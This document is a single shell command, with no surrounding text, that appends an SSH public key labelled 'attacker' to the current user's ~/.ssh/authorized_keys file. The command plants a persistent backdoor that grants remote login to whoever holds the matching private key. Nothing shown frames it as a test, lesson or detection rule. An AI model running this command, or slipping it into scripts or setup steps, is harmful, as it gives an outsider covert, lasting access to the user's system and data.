echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMq attacker' >> ~/.ssh/authorized_keys
